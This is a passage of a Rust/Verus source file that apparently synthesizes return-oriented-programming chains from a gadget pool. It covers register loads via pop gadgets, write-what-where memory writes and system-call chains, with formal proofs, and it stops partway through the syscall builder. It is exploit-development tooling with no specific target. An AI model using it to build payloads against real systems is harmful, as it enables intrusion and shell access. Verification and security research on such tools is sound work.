//! Chain synthesis over a discovered gadget pool: register loads (`pop`),
//! the memory-write primitive (`write_data`), the system-call builder
//! (`syscall`) and the shell-spawning orchestrator (`binsh`).

use vstd::prelude::*;

use crate::gadget::{gadget_wf, pool_view, pool_wf, Gadget};
use crate::instr::{
    is_pop_of, is_write_what_where, Instruction, Mnemonic, OpKind, Register, Segment,
};

verus! {

/// What one chain entry is: a gadget reference or an 8-byte immediate.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum RopElementKind {
    ImmediateValue,
    Gadget,
}

/// One entry of the final stack payload: an 8-byte value, and for gadget
/// entries the gadget it enters. Immediate entries carry the empty gadget.
#[derive(Clone, PartialEq, Debug)]
pub struct RopElement {
    pub value: u64,
    pub gadget: Gadget,
    pub element_type: RopElementKind,
}

/// The mathematical model of one chain entry: either entering a gadget's
/// code at an entry address, or an immediate stack value.
pub enum ElementModel {
    GadgetRef { entry: u64, code: Seq<Instruction> },
    Immediate { value: u64 },
}

impl View for RopElement {
    type V = ElementModel;

    open spec fn view(&self) -> ElementModel {
        match self.element_type {
            RopElementKind::Gadget => ElementModel::GadgetRef {
                entry: self.value,
                code: self.gadget@,
            },
            RopElementKind::ImmediateValue => ElementModel::Immediate { value: self.value },
        }
    }
}

impl RopElement {
    pub fn new(value: u64, gadget: Gadget, element_type: RopElementKind) -> (e: RopElement)
        ensures
            e.value == value,
            e.gadget@ == gadget@,
            e.element_type == element_type,
    {
        RopElement { value, gadget, element_type }
    }

    /// The 8-byte stack value of this entry.
    pub fn value(&self) -> (v: u64)
        ensures
            v == self.value,
    {
        self.value
    }

    pub fn kind(&self) -> (k: &RopElementKind)
        ensures
            k == self.element_type,
    {
        &self.element_type
    }

    pub fn gadget(&self) -> (g: &Gadget)
        ensures
            g@ == self.gadget@,
    {
        &self.gadget
    }
}

/// The models of the entries of a chain, in stack order.
pub open spec fn chain_view(v: Seq<RopElement>) -> Seq<ElementModel> {
    v.map_values(|e: RopElement| e@)
}

/// The synthesis primitive a pool can fail to provide.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum Primitive {
    WriteWhatWhere,
    SyscallTrap,
}

/// Why a synthesis call failed.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum RopError {
    /// Synthesis was invoked on an empty gadget pool.
    InsufficientPool,
    /// No gadget in the pool loads the named register from the stack.
    RegisterUnavailable(Register),
    /// The pool holds no gadget for the named primitive.
    PrimitiveUnavailable(Primitive),
    /// Write-what-where gadgets exist, but none of them both yields a
    /// non-empty chain and has its two registers loadable from the pool.
    WriteUnsatisfiable,
}

/// A synthesis result reduced to its model: the chain's entry models on
/// success, the error unchanged on failure.
pub open spec fn result_view(r: Result<Vec<RopElement>, RopError>) -> Result<
    Seq<ElementModel>,
    RopError,
> {
    match r {
        Ok(v) => Ok(chain_view(v@)),
        Err(e) => Err(e),
    }
}

/// The first index at or past `i` inside the leading pop run of a gadget
/// (which starts at index 1, right behind the terminating return) whose
/// pop targets `register`. The scan gives up at the first instruction
/// that is not a pop.
pub open spec fn pop_scan(g: Seq<Instruction>, register: Register, i: int) -> Option<int>
    decreases g.len() - i,
{
    if i < 1 || i >= g.len() || g[i].mnemonic != Mnemonic::Pop {
        Option::None
    } else if g[i].op0_register == register {
        Some(i)
    } else {
        pop_scan(g, register, i + 1)
    }
}

/// The entry index a gadget offers for loading `register`, if any: the
/// first pop of `register` inside the gadget's leading pop run.
pub open spec fn gadget_pop_index(g: Seq<Instruction>, register: Register) -> Option<int> {
    pop_scan(g, register, 1)
}

/// The first gadget at or past index `gi` that offers `register`, with
/// its entry index.
pub open spec fn pool_pop_pick(pv: Seq<Seq<Instruction>>, register: Register, gi: int) -> Option<
    (int, int),
>
    decreases pv.len() - gi,
{
    if gi < 0 || gi >= pv.len() {
        Option::None
    } else {
        match gadget_pop_index(pv[gi], register) {
            Some(ii) => Some((gi, ii)),
            Option::None => pool_pop_pick(pv, register, gi + 1),
        }
    }
}

/// Where the pool loads `register` from the stack: the first gadget in
/// pool order that offers it, and the entry index inside that gadget.
pub open spec fn spec_pop_find(pv: Seq<Seq<Instruction>>, register: Register) -> Option<(int, int)> {
    pool_pop_pick(pv, register, 0)
}

/// `n` zero-filled immediate entries.
pub open spec fn zero_imms(n: nat) -> Seq<ElementModel> {
    Seq::new(n, |k: int| ElementModel::Immediate { value: 0 })
}

/// The chain a successful register load emits: the gadget entered at the
/// matching pop, the requested value, then one zero padding per further
/// pop executed before the return.
pub open spec fn spec_pop_chain(pv: Seq<Seq<Instruction>>, register: Register, value: u64) -> Seq<
    ElementModel,
> {
    match spec_pop_find(pv, register) {
        Some((gi, ii)) => seq![
            ElementModel::GadgetRef { entry: pv[gi][ii].address, code: pv[gi] },
            ElementModel::Immediate { value },
        ] + zero_imms((ii - 1) as nat),
        Option::None => Seq::empty(),
    }
}

/// The exact outcome of the register-value search on a pool: rejection of
/// an empty pool, the load chain when some gadget offers the register,
/// and the register-unavailable failure otherwise.
pub open spec fn spec_pop(pv: Seq<Seq<Instruction>>, register: Register, value: u64) -> Result<
    Seq<ElementModel>,
    RopError,
> {
    if pv.len() == 0 {
        Err(RopError::InsufficientPool)
    } else if spec_pop_find(pv, register) is Some {
        Ok(spec_pop_chain(pv, register, value))
    } else {
        Err(RopError::RegisterUnavailable(register))
    }
}

/// For every successful load the chain has the matched entry index plus
/// one elements: the gadget reference, then the requested value (consumed
/// by the entry pop), then exactly `entry index - 1` zero paddings.
pub proof fn lemma_pop_chain_shape(pv: Seq<Seq<Instruction>>, register: Register, value: u64)
    requires
        spec_pop(pv, register, value) is Ok,
    ensures
        spec_pop_find(pv, register) is Some,
        ({
            let (gi, ii) = spec_pop_find(pv, register)->Some_0;
            let c = spec_pop_chain(pv, register, value);
            &&& 0 <= gi < pv.len()
            &&& 1 <= ii < pv[gi].len()
            &&& is_pop_of(pv[gi][ii], register)
            &&& c.len() == ii + 1
            &&& c[0] == ElementModel::GadgetRef { entry: pv[gi][ii].address, code: pv[gi] }
            &&& c[1] == ElementModel::Immediate { value }
            &&& forall|t: int| 2 <= t < c.len() ==> c[t] == ElementModel::Immediate { value: 0 }
        }),
{
    let (gi, ii) = spec_pop_find(pv, register)->Some_0;
    lemma_pool_pop_pick_in_bounds(pv, register, 0);
    lemma_pop_scan_found(pv[gi], register, 1);
}

/// A successful pool search names a real gadget, and a successful gadget
/// scan names a real pop of the register.
pub(crate) proof fn lemma_pool_pop_pick_in_bounds(pv: Seq<Seq<Instruction>>, register: Register, gi: int)
    ensures
        pool_pop_pick(pv, register, gi) matches Some((g, i)) ==> gi <= g < pv.len()
            && gadget_pop_index(pv[g], register) == Some(i),
    decreases pv.len() - gi,
{
    if !(gi < 0 || gi >= pv.len()) {
        lemma_pool_pop_pick_in_bounds(pv, register, gi + 1);
    }
}

/// What a successful pop scan guarantees about the index it returns and
/// the instructions before it.
pub(crate) proof fn lemma_pop_scan_found(g: Seq<Instruction>, register: Register, i: int)
    ensures
        pop_scan(g, register, i) matches Some(ii) ==> {
            &&& i <= ii < g.len()
            &&& 1 <= ii
            &&& is_pop_of(g[ii], register)
            &&& forall|j: int|
                i <= j < ii ==> g[j].mnemonic == Mnemonic::Pop && g[j].op0_register != register
        },
    decreases g.len() - i,
{
    if !(i < 1 || i >= g.len() || g[i].mnemonic != Mnemonic::Pop) {
        if g[i].op0_register != register {
            lemma_pop_scan_found(g, register, i + 1);
        }
    }
}

/// Search the pool for a gadget whose entry point loads `register` from
/// the stack, and emit the minimal chain that loads `value` into it: the
/// gadget entered at the matching pop, the value itself, then one zero
/// padding per extra pop the gadget executes before returning. An empty
/// pool is rejected outright; otherwise the first offering gadget in pool
/// order is taken, so the search is deterministic for a given pool order.
#[verifier::loop_isolation(false)]
pub fn pop(gadgets: &Vec<Gadget>, register: Register, value: u64) -> (r: Result<
    Vec<RopElement>,
    RopError,
>)
    ensures
        result_view(r) == spec_pop(pool_view(gadgets@), register, value),
{
    let ghost pv = pool_view(gadgets@);
    if gadgets.len() == 0 {
        return Err(RopError::InsufficientPool);
    }
    let mut gi: usize = 0;
    while gi < gadgets.len()
        invariant
            gi <= gadgets@.len(),
            spec_pop_find(pv, register) == pool_pop_pick(pv, register, gi as int),
        decreases gadgets@.len() - gi,
    {
        let g = &gadgets[gi];
        let g_len = g.instructions.len();
        proof {
            assert(pv[gi as int] == g@);
        }
        let mut ii: usize = 1;
        while ii < g_len && g.instructions[ii].mnemonic == Mnemonic::Pop
            invariant
                1 <= ii,
                ii == 1 || ii <= g_len,
                pop_scan(g@, register, 1) == pop_scan(g@, register, ii as int),
                forall|j: int|
                    1 <= j < ii ==> (#[trigger] g@[j]).mnemonic == Mnemonic::Pop
                        && g@[j].op0_register != register,
            decreases g_len - ii,
        {
            if g.instructions[ii].op0_register == register {
                proof {
                    assert(pop_scan(g@, register, ii as int) == Some(ii as int));
                    assert(spec_pop_find(pv, register) == Some((gi as int, ii as int)));
                }
                let entry = g.instructions[ii].address;
                let mut v: Vec<RopElement> = Vec::new();
                v.push(RopElement::new(entry, g.duplicate(), RopElementKind::Gadget));
                v.push(RopElement::new(value, Gadget::default(), RopElementKind::ImmediateValue));
                let ghost head = seq![
                    ElementModel::GadgetRef { entry: pv[gi as int][ii as int].address, code: pv[gi as int] },
                    ElementModel::Immediate { value },
                ];
                proof {
                    assert(chain_view(v@) =~= head + zero_imms(0));
                }
                let mut t: usize = 0;
                while t < ii - 1
                    invariant
                        t <= ii - 1,
                        chain_view(v@) == head + zero_imms(t as nat),
                    decreases ii - 1 - t,
                {
                    let ghost prev = v@;
                    v.push(RopElement::new(0, Gadget::default(), RopElementKind::ImmediateValue));
                    t += 1;
                    proof {
                        assert(chain_view(v@) =~= chain_view(prev).push(
                            ElementModel::Immediate { value: 0 },
                        ));
                        assert(chain_view(v@) =~= head + zero_imms(t as nat));
                    }
                }
                proof {
                    assert(chain_view(v@) == spec_pop_chain(pv, register, value));
                }
                return Ok(v);
            }
            proof {
                assert(pop_scan(g@, register, ii as int) == pop_scan(g@, register, ii + 1));
            }
            ii += 1;
        }
        proof {
            assert(pop_scan(g@, register, ii as int) is None);
            assert(gadget_pop_index(g@, register) is None);
            assert(pool_pop_pick(pv, register, gi as int) == pool_pop_pick(
                pv,
                register,
                gi + 1,
            ));
        }
        gi += 1;
    }
    proof {
        assert(pool_pop_pick(pv, register, gi as int) is None);
    }
    Err(RopError::RegisterUnavailable(register))
}

/// Whether a gadget is a write-what-where gadget: its instruction right
/// behind the return is `mov [base], src` with zero displacement and no
/// segment override.
pub open spec fn is_www_gadget(g: Seq<Instruction>) -> bool {
    g.len() >= 2 && is_write_what_where(g[1])
}

/// The write-what-where gadgets among the pool entries at index `j` or
/// later, in pool order.
pub open spec fn www_from(pv: Seq<Seq<Instruction>>, j: int) -> Seq<Seq<Instruction>>
    decreases pv.len() - j,
{
    if j < 0 || j >= pv.len() {
        Seq::empty()
    } else {
        (if is_www_gadget(pv[j]) {
            seq![pv[j]]
        } else {
            Seq::empty()
        }) + www_from(pv, j + 1)
    }
}

/// All write-what-where gadgets of a pool, in pool order.
pub open spec fn spec_www_list(pv: Seq<Seq<Instruction>>) -> Seq<Seq<Instruction>> {
    www_from(pv, 0)
}

/// The register whose value a write-what-where gadget stores.
pub open spec fn www_source(g: Seq<Instruction>) -> Register {
    g[1].op1_register
}

/// The register holding the address a write-what-where gadget stores to.
pub open spec fn www_destination(g: Seq<Instruction>) -> Register {
    g[1].memory_base
}

/// Whether the pool can load both registers a write-what-where gadget
/// needs; this alone decides whether the gadget can write every word.
pub open spec fn candidate_ok(pv: Seq<Seq<Instruction>>, g: Seq<Instruction>) -> bool {
    spec_pop_find(pv, www_source(g)) is Some && spec_pop_find(pv, www_destination(g)) is Some
}

/// The first write-what-where candidate at or past index `j` whose two
/// registers the pool can load.
pub open spec fn pick_candidate(
    pv: Seq<Seq<Instruction>>,
    ws: Seq<Seq<Instruction>>,
    j: int,
) -> Option<int>
    decreases ws.len() - j,
{
    if j < 0 || j >= ws.len() {
        Option::None
    } else if candidate_ok(pv, ws[j]) {
        Some(j)
    } else {
        pick_candidate(pv, ws, j + 1)
    }
}

/// The chain that writes the data words at index `i` and later: for each
/// word, a load of the source register with the word, a load of the
/// destination register with `address + 8 * i`, then the write gadget
/// entered at its store instruction.
pub open spec fn spec_write_steps(
    pv: Seq<Seq<Instruction>>,
    g: Seq<Instruction>,
    data: Seq<u64>,
    address: u64,
    i: int,
) -> Seq<ElementModel>
    decreases data.len() - i,
{
    if i < 0 || i >= data.len() {
        Seq::empty()
    } else {
        spec_pop_chain(pv, www_source(g), data[i]) + spec_pop_chain(
            pv,
            www_destination(g),
            (address + 8 * i) as u64,
        ) + seq![ElementModel::GadgetRef { entry: g[1].address, code: g }] + spec_write_steps(
            pv,
            g,
            data,
            address,
            i + 1,
        )
    }
}

/// The exact outcome of the memory-write primitive: rejection of an empty
/// pool; the write-what-where failure when the pool holds no such gadget;
/// otherwise the chain built from the first candidate whose two registers
/// the pool can load, writing every word — or the write-unsatisfiable
/// failure when no candidate qualifies or there is nothing to write.
pub open spec fn spec_write_data(pv: Seq<Seq<Instruction>>, data: Seq<u64>, address: u64) -> Result<
    Seq<ElementModel>,
    RopError,
> {
    if pv.len() == 0 {
        Err(RopError::InsufficientPool)
    } else if spec_www_list(pv).len() == 0 {
        Err(RopError::PrimitiveUnavailable(Primitive::WriteWhatWhere))
    } else if data.len() == 0 {
        Err(RopError::WriteUnsatisfiable)
    } else {
        match pick_candidate(pv, spec_www_list(pv), 0) {
            Some(j) => Ok(spec_write_steps(pv, spec_www_list(pv)[j], data, address, 0)),
            Option::None => Err(RopError::WriteUnsatisfiable),
        }
    }
}

/// Every write-what-where gadget of a well-formed pool is well formed.
proof fn lemma_www_from_wf(pv: Seq<Seq<Instruction>>, j: int)
    requires
        pool_wf(pv),
    ensures
        forall|k: int| 0 <= k < www_from(pv, j).len() ==> gadget_wf(#[trigger] www_from(pv, j)[k]),
    decreases pv.len() - j,
{
    if !(j < 0 || j >= pv.len()) {
        lemma_www_from_wf(pv, j + 1);
        let w = www_from(pv, j);
        let rest = www_from(pv, j + 1);
        if is_www_gadget(pv[j]) {
            assert(w == seq![pv[j]] + rest);
            assert forall|k: int| 0 <= k < w.len() implies gadget_wf(#[trigger] w[k]) by {
                if k == 0 {
                    assert(w[k] == pv[j]);
                } else {
                    assert(w[k] == rest[k - 1]);
                    assert(gadget_wf(rest[k - 1]));
                }
            }
        } else {
            assert(w =~= rest);
        }
    }
}

/// Collect every write-what-where gadget of the pool, in pool order: each
/// gadget whose instruction behind the return is `mov [base], src` with
/// zero displacement and no segment override. Fails exactly when the pool
/// holds none.
#[verifier::loop_isolation(false)]
pub fn find_write_what_where(gadgets: &Vec<Gadget>) -> (r: Result<Vec<Gadget>, RopError>)
    requires
        pool_wf(pool_view(gadgets@)),
    ensures
        match r {
            Ok(v) => {
                &&& pool_view(v@) == spec_www_list(pool_view(gadgets@))
                &&& v@.len() > 0
                &&& pool_wf(pool_view(v@))
            },
            Err(e) => {
                &&& e == RopError::PrimitiveUnavailable(Primitive::WriteWhatWhere)
                &&& spec_www_list(pool_view(gadgets@)).len() == 0
            },
        },
{
    let ghost pv = pool_view(gadgets@);
    let mut www: Vec<Gadget> = Vec::new();
    let mut j: usize = 0;
    while j < gadgets.len()
        invariant
            j <= gadgets@.len(),
            www_from(pv, 0) == pool_view(www@) + www_from(pv, j as int),
        decreases gadgets@.len() - j,
    {
        let g = &gadgets[j];
        proof {
            assert(pv[j as int] == g@);
            assert(gadget_wf(g@));
        }
        let insn = g.instructions[1];
        if insn.mnemonic == Mnemonic::Move && insn.op0_kind == OpKind::Memory && insn.op1_kind
            == OpKind::Register && insn.memory_displacement == 0 && insn.memory_segment
            == Segment::Ds {
            www.push(g.duplicate());
            proof {
                assert(www_from(pv, j as int) == seq![pv[j as int]] + www_from(pv, j + 1));
                assert(www_from(pv, 0) =~= pool_view(www@) + www_from(pv, j + 1));
            }
        } else {
            proof {
                assert(www_from(pv, j as int) == www_from(pv, j + 1));
            }
        }
        j += 1;
    }
    proof {
        assert(www_from(pv, j as int) =~= Seq::<Seq<Instruction>>::empty());
        assert(pool_view(www@) =~= spec_www_list(pv));
        lemma_www_from_wf(pv, 0);
    }
    if www.len() == 0 {
        return Err(RopError::PrimitiveUnavailable(Primitive::WriteWhatWhere));
    }
    Ok(www)
}

/// Try one write-what-where candidate for the whole data: emit, word by
/// word, the load of its source register with the word, the load of its
/// destination register with the word's target address, and the write
/// gadget entered at its store. A candidate missing either register is
/// reported unusable instead of writing a subset of the words.
#[verifier::loop_isolation(false)]
fn write_words(gadgets: &Vec<Gadget>, g: &Gadget, data: &Vec<u64>, address: u64) -> (r: Option<
    Vec<RopElement>,
>)
    requires
        gadgets@.len() > 0,
        gadget_wf(g@),
        data@.len() > 0,
        address + 8 * (data@.len() - 1) <= u64::MAX,
    ensures
        match r {
            Some(v) => candidate_ok(pool_view(gadgets@), g@) && chain_view(v@)
                == spec_write_steps(pool_view(gadgets@), g@, data@, address, 0),
            Option::None => !candidate_ok(pool_view(gadgets@), g@),
        },
{
    let ghost pv = pool_view(gadgets@);
    let src = g.instructions[1].op1_register;
    let dst = g.instructions[1].memory_base;
    let mut rop: Vec<RopElement> = Vec::new();
    let mut i: usize = 0;
    while i < data.len()
        invariant
            i <= data@.len(),
            spec_write_steps(pv, g@, data@, address, 0) == chain_view(rop@) + spec_write_steps(
                pv,
                g@,
                data@,
                address,
                i as int,
            ),
            i > 0 ==> candidate_ok(pv, g@),
        decreases data@.len() - i,
    {
        let word = data[i];
        let mut load_src = match pop(gadgets, src, word) {
            Ok(e) => e,
            Err(_) => {
                return Option::None;
            },
        };
        let mut load_dst = match pop(gadgets, dst, address + (i as u64) * 8) {
            Ok(e) => e,
            Err(_) => {
                return Option::None;
            },
        };
        let ghost prev = rop@;
        let ghost src_chain = chain_view(load_src@);
        let ghost dst_chain = chain_view(load_dst@);
        rop.append(&mut load_src);
        rop.append(&mut load_dst);
        rop.push(
            RopElement::new(g.instructions[1].address, g.duplicate(), RopElementKind::Gadget),
        );
        proof {
            assert(chain_view(rop@) =~= chain_view(prev) + src_chain + dst_chain + seq![
                ElementModel::GadgetRef { entry: g@[1].address, code: g@ },
            ]);
            assert(spec_write_steps(pv, g@, data@, address, i as int) == src_chain + dst_chain
                + seq![ElementModel::GadgetRef { entry: g@[1].address, code: g@ }]
                + spec_write_steps(pv, g@, data@, address, i + 1));
            assert(spec_write_steps(pv, g@, data@, address, 0) =~= chain_view(rop@)
                + spec_write_steps(pv, g@, data@, address, i + 1));
        }
        i += 1;
    }
    proof {
        assert(spec_write_steps(pv, g@, data@, address, i as int) =~= Seq::<
            ElementModel,
        >::empty());
        assert(chain_view(rop@) =~= spec_write_steps(pv, g@, data@, address, 0));
    }
    Some(rop)
}

/// Compose register loads with a write-what-where gadget so that the data
/// words land consecutively at `address`. The first candidate gadget whose
/// source and destination registers the pool can load is used for every
/// word; a candidate missing either register is abandoned whole, so a
/// produced chain always writes the complete data. Fails when the pool is
/// empty, holds no write-what-where gadget, or no candidate qualifies.
#[verifier::loop_isolation(false)]
#[verifier::rlimit(50)]
pub fn write_data(gadgets: &Vec<Gadget>, data: &Vec<u64>, address: u64) -> (r: Result<
    Vec<RopElement>,
    RopError,
>)
    requires
        pool_wf(pool_view(gadgets@)),
        data@.len() == 0 || address + 8 * (data@.len() - 1) <= u64::MAX,
    ensures
        result_view(r) == spec_write_data(pool_view(gadgets@), data@, address),
{
    let ghost pv = pool_view(gadgets@);
    if gadgets.len() == 0 {
        return Err(RopError::InsufficientPool);
    }
    let www = match find_write_what_where(gadgets) {
        Ok(w) => w,
        Err(e) => {
            return Err(e);
        },
    };
    if data.len() == 0 {
        return Err(RopError::WriteUnsatisfiable);
    }
    let ghost ws = spec_www_list(pv);
    let mut j: usize = 0;
    while j < www.len()
        invariant
            j <= www@.len(),
            pool_view(www@) == ws,
            pick_candidate(pv, ws, 0) == pick_candidate(pv, ws, j as int),
        decreases www@.len() - j,
    {
        let g = &www[j];
        proof {
            assert(ws[j as int] == g@);
            assert(gadget_wf(g@));
        }
        match write_words(gadgets, g, data, address) {
            Some(rop) => {
                proof {
                    assert(pick_candidate(pv, ws, j as int) == Some(j as int));
                }
                return Ok(rop);
            },
            Option::None => {
                proof {
                    assert(pick_candidate(pv, ws, j as int) == pick_candidate(pv, ws, j + 1));
                }
            },
        }
        j += 1;
    }
    proof {
        assert(pick_candidate(pv, ws, j as int) is None);
    }
    Err(RopError::WriteUnsatisfiable)
}

/// The register loaded for the system-call argument at position `k` of
/// the fixed calling-convention order.
pub open spec fn argument_register(k: int) -> Register {
    if k == 0 {
        Register::Rdi
    } else if k == 1 {
        Register::Rsi
    } else if k == 2 {
        Register::Rdx
    } else if k == 3 {
        Register::Rcx
    } else if k == 4 {
        Register::R8
    } else if k == 5 {
        Register::R9
    } else {
        Register::NoRegister
    }
}

/// The register loaded `k`-th by the system-call builder: the number
/// register first, then the argument registers in convention order.
pub open spec fn needed_register(k: int) -> Register {
    if k == 0 {
        Register::Rax
    } else {
        argument_register(k - 1)
    }
}

/// The first position in `[k, n)` whose register the pool cannot load.
pub open spec fn first_missing(pv: Seq<Seq<Instruction>>, n: int, k: int) -> Option<int>
    decreases n - k,
{
    if k < 0 || k >= n {
        Option::None
    } else if spec_pop_find(pv, needed_register(k)) is None {
        Some(k)
    } else {
        first_missing(pv, n, k + 1)
    }
}

/// The register loads the system-call builder emits for positions `k`
/// through `n - 1`, in convention order; `vals[k]` is the value loaded at
/// position `k`.
pub open spec fn spec_syscall_loads(
    pv: Seq<Seq<Instruction>>,
    vals: Seq<u64>,
    n: int,
    k: int,
) -> Seq<ElementModel>
    decreases n - k,
{
    if k < 0 || k >= n {
        Seq::empty()
    } else {
        spec_pop_chain(pv, needed_register(k), vals[k]) + spec_syscall_loads(pv, vals, n, k + 1)
    }
}

/// Whether a gadget's instruction behind the return is the syscall trap.
pub open spec fn is_syscall_gadget(g: Seq<Instruction>) -> bool {
    g.len() >= 2 && g[1].mnemonic == Mnemonic::Syscall
}

/// The first syscall-capable gadget at or past index `gi`.
pub open spec fn syscall_gadget_from(pv: Seq<Seq<Instruction>>, gi: int) -> Option<int>
    decreases pv.len() - gi,
{
    if gi < 0 || gi >= pv.len() {
        Option::None
    } else if is_syscall_gadget(pv[gi]) {
        Some(gi)
    } else {
        syscall_gadget_from(pv, gi + 1)
    }
}

/// Where the pool offers a syscall trap: the first gadget in pool order
/// whose instruction at index 1 is the syscall instruction.
pub open spec fn spec_syscall_find(pv: Seq<Seq<Instruction>>) -> Option<int> {
    syscall_gadget_from(pv, 0)
}

/// The values the system-call builder loads, position by position: the
/// syscall number first, then the six argument slots.
pub open spec fn syscall_values(syscall_nb: u64, params: Seq<u64>) -> Seq<u64> {
    seq![syscall_nb] + params
}

/// The exact outcome of the system-call builder: rejection of an empty
/// pool; the first register in convention order the pool cannot load, as
/// a register-unavailable failure; the missing-trap failure when every
/// load succeeds but no syscall gadget exists; otherwise the loads in
/// convention order followed by the trap gadget entered at the syscall
/// instruction itself.
pub open spec fn spec_syscall(
    pv: Seq<Seq<Instruction>>,
    syscall_nb: u64,
    nbr_args: int,
    params: Seq<u64>,
) -> Result<Seq<ElementModel>, RopError> {
    let n = nbr_args + 1;
    let vals = syscall_values(syscall_nb, params);
    if pv.len() == 0 {
        Err(RopError::InsufficientPool)
    } else {
        match first_missing(pv, n, 0) {
            Some(t) => Err(RopError::RegisterUnavailable(needed_register(t))),
            Option::None => match spec_syscall_find(pv) {
                Some(gi) => Ok(
                    spec_syscall_loads(pv, vals, n, 0).push(
                        ElementModel::GadgetRef { entry: pv[gi][1].address, code: pv[gi] },
                    ),
                ),
                Option::None => Err(RopError::PrimitiveUnavailable(Primitive::SyscallTrap)),
            },
        }
    }
}

/// How many entries of a chain are gadget references; the others are
/// immediates.
pub open spec fn count_gadget_refs(c: Seq<ElementModel>) -> int
    decreases c.len(),
{
    if c.len() == 0 {
        0
    } else {
        (if c[0] is GadgetRef {
            1int
        } else {
            0int
        }) + count_gadget_refs(c.drop_first())
    }
}

/// Gadget references count across concatenation.
proof fn lemma_count_refs_concat(a: Seq<ElementModel>, b: Seq<ElementModel>)
    ensures
        count_gadget_refs(a + b) == count_gadget_refs(a) + count_gadget_refs(b),
    decreases a.len(),
{
    if a.len() == 0 {
        assert(a + b =~= b);
    } else {
        assert((a + b).drop_first() =~= a.drop_first() + b);
        lemma_count_refs_concat(a.drop_first(), b);
    }
}

/// Zero paddings hold no gadget reference.
proof fn lemma_count_refs_zero_imms(n: nat)
    ensures
        count_gadget_refs(zero_imms(n)) == 0,
    decreases n,
{
    if n > 0 {
        assert(zero_imms(n).drop_first() =~= zero_imms((n - 1) as nat));
        lemma_count_refs_zero_imms((n - 1) as nat);
    }
}

/// A successful register load is exactly one gadget reference followed by
/// immediates.
proof fn lemma_count_refs_pop_chain(pv: Seq<Seq<Instruction>>, register: Register, value: u64)
    requires
        spec_pop_find(pv, register) is Some,
    ensures
        count_gadget_refs(spec_pop_chain(pv, register, value)) == 1,
{
    let (gi, ii) = spec_pop_find(pv, register)->Some_0;
    let head = seq![
        ElementModel::GadgetRef { entry: pv[gi][ii].address, code: pv[gi] },
        ElementModel::Immediate { value },
    ];
    lemma_count_refs_concat(head, zero_imms((ii - 1) as nat));
    lemma_count_refs_zero_imms((ii - 1) as nat);
    let tail = head.drop_first();
    assert(count_gadget_refs(head) == 1 + count_gadget_refs(tail));
    assert(count_gadget_refs(Seq::<ElementModel>::empty()) == 0);
    assert(tail.drop_first() =~= Seq::<ElementModel>::empty());
    assert(tail[0] == ElementModel::Immediate { value });
    assert(count_gadget_refs(tail) == count_gadget_refs(tail.drop_first()));
}

/// When every register in `[k, n)` is available, the loads for those
/// positions hold exactly one gadget reference per position.
proof fn lemma_count_refs_loads(pv: Seq<Seq<Instruction>>, vals: Seq<u64>, n: int, k: int)
    requires
        0 <= k <= n,
        first_missing(pv, n, k) is None,
    ensures
        count_gadget_refs(spec_syscall_loads(pv, vals, n, k)) == n - k,
    decreases n - k,
{
    if k < n {
        assert(spec_pop_find(pv, needed_register(k)) is Some);
        lemma_count_refs_pop_chain(pv, needed_register(k), vals[k]);
        lemma_count_refs_concat(
            spec_pop_chain(pv, needed_register(k), vals[k]),
            spec_syscall_loads(pv, vals, n, k + 1),
        );
        lemma_count_refs_loads(pv, vals, n, k + 1);
    }
}

/// A found syscall gadget is a real pool entry with the trap behind its
/// return.
proof fn lemma_syscall_gadget_found(pv: Seq<Seq<Instruction>>, gi: int)
    ensures
        syscall_gadget_from(pv, gi) matches Some(g) ==> gi <= g < pv.len() && is_syscall_gadget(
            pv[g],
        ),
    decreases pv.len() - gi,
{
    if !(gi < 0 || gi >= pv.len()) {
        lemma_syscall_gadget_found(pv, gi + 1);
    }
}

/// Every successful system-call chain consists of one register-load group
/// per requested argument plus one for the syscall number — each group a
/// single gadget reference with its immediates, in calling-convention
/// order — followed by exactly one further gadget reference, entered at a
/// pool gadget's trap instruction.
pub proof fn lemma_syscall_chain_shape(
    pv: Seq<Seq<Instruction>>,
    syscall_nb: u64,
    nbr_args: int,
    params: Seq<u64>,
)
    requires
        0 <= nbr_args,
        spec_syscall(pv, syscall_nb, nbr_args, params) is Ok,
    ensures
        ({
            let c = spec_syscall(pv, syscall_nb, nbr_args, params)->Ok_0;
            let gi = spec_syscall_find(pv)->Some_0;
            &&& spec_syscall_find(pv) is Some
            &&& 0 <= gi < pv.len()
            &&& is_syscall_gadget(pv[gi])
            &&& c.len() > 0
            &&& c.last() == ElementModel::GadgetRef { entry: pv[gi][1].address, code: pv[gi] }
            &&& count_gadget_refs(c) == nbr_args + 2
            &&& c == spec_syscall_loads(
                pv,
                syscall_values(syscall_nb, params),
                nbr_args + 1,
                0,
            ).push(ElementModel::GadgetRef { entry: pv[gi][1].address, code: pv[gi] })
        }),
{
    let vals = syscall_values(syscall_nb, params);
    let n = nbr_args + 1;
    let gi = spec_syscall_find(pv)->Some_0;
    lemma_syscall_gadget_found(pv, 0);
    let loads = spec_syscall_loads(pv, vals, n, 0);
    let trap = ElementModel::GadgetRef { entry: pv[gi][1].address, code: pv[gi] };
    lemma_count_refs_loads(pv, vals, n, 0);
    assert(loads.push(trap) =~= loads + seq![trap]);
    lemma_count_refs_concat(loads, seq![trap]);
    assert(count_gadget_refs(Seq::<ElementModel>::empty()) == 0);
    assert(seq![trap].drop_first() =~= Seq::<ElementModel>::empty());
    assert(seq![trap][0] == trap);
    assert(count_gadget_refs(seq![trap]) == 1 + count_gadget_refs(seq![trap].drop_first()));
}

/// The register loaded at position `k`, as executable code.
fn needed_register_at(k: usize) -> (r: Register)
    ensures
        r == needed_register(k as int),
{
    if k == 0 {
        Register::Rax
    } else if k == 1 {
        Register::Rdi
    } else if k == 2 {
        Register::Rsi
    } else if k == 3 {
        Register::Rdx
    } else if k == 4 {
        Register::Rcx
    } else if k == 5 {
        Register::R8
    } else if k == 6 {
        Register::R9
    } else {
        Register::NoRegister
    }
}

/// Build the chain that invokes a system call: load the number register
/// with `syscall_nb`, load the first `nbr_args` argument registers in
/// convention order with the corresponding parameters, then enter a
/// syscall-capable gadget at its trap instruction. Unlike the memory
/// write, this stage is strict: the first register the pool cannot load
/// aborts the whole call.
#[verifier::loop_isolation(false)]
pub fn syscall(
    gadgets: &Vec<Gadget>,
    syscall_nb: u64,
    nbr_args: u64,
    param0: u64,
    param1: u64,
    param2: u64,
    param3: u64,
    param4: u64,
    param5: u64,
) -> (r: Result<Vec<RopElement>, RopError>)
    requires
        pool_wf(pool_view(gadgets@)),
